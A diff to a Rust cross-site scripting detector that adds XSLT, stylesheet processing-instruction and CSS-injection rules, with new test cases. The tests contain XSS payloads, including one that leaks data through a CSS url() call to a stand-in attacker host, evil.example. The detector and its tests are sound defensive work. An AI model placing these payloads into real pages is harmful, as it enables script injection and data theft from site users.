@@ -16,6 +16,8 @@ static SINK: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(JS_SINKS));
 /// Tags that need no attribute to be dangerous.
 const ACTIVE_TAGS: &[&str] = &[
     "script",
+    // XSLT, which transforms the page and runs script (`<xsl:stylesheet>`).
+    "stylesheet",
     "iframe",
     "frame",
     "frameset",
@@ -287,6 +289,14 @@ fn tag(view: &str, at: usize, hits: &mut Hits) -> usize {
         }
         return i;
     }
+    // Processing instructions that load a stylesheet (XSLT runs script) or an IE behavior.
+    if ["?xml-stylesheet", "?import", "?xml:namespace"]
+        .iter()
+        .any(|pi| view[i..].starts_with(pi))
+    {
+        hits.add(&rules::XSS_SCRIPT_TAG, view, at);
+        return i;
+    }
     if bytes.get(i) == Some(&b'/') {
         i += 1;
     }
@@ -390,6 +400,8 @@ fn attributes(view: &str, mut i: usize, hits: &mut Hits) -> usize {
                 hits.add(&rules::XSS_SCRIPT_URL, view, name_start);
             } else if (name == "style" || name == "filter") && style_runs_script(value) {
                 hits.add(&rules::XSS_STYLE_SCRIPT, view, name_start);
+            } else if name == "style" && style_injects(value) {
+                hits.add(&rules::XSS_STYLE_INJECTION, view, name_start);
             } else if value.trim_start().starts_with("data:")
                 && !value.trim_start()[5..].starts_with("image/png")
                 && !value.trim_start()[5..].starts_with("image/jpeg")
@@ -451,6 +463,12 @@ fn style_runs_script(value: &str) -> bool {
         || compact.contains("behavior:")
         || compact.contains("-moz-binding")
         || compact.contains("@import")
+}
+
+/// A `style` attribute that loads a resource (`url(...)`: tracking, CSS exfiltration, SVG
+/// resources) or leaves its declaration block (`{`, `}`) to write rules of its own.
+fn style_injects(value: &str) -> bool {
+    value.contains("url(") || value.contains(['{', '}'])
 }
 
 fn strip_css_comments(text: &str) -> String {
@@ -572,6 +590,10 @@ mod tests {
             "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
             "＜script＞alert(1)＜/script＞",
             "<body onload=alert(1)>",
+            "<div style=\"background:url(http://evil.example/leak?c=1)\">x</div>",
+            "<div style=\"font-family:foo}color=red;\">XXX</div>",
+            "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?>",
+            "<xsl:stylesheet version=\"1.0\">",
         ] {
             assert!(xss(attack), "missed: {attack}");
         }
@@ -593,6 +615,8 @@ mod tests {
             "alerts (3) pending",
             "the function evaluates(x)",
             "<b>bold</b> text",
+            "<span style=\"color:red\">warning</span>",
+            "set the background with url(image.png) in your stylesheet",
         ] {
             assert!(!xss(benign), "false positive: {benign}");
         }
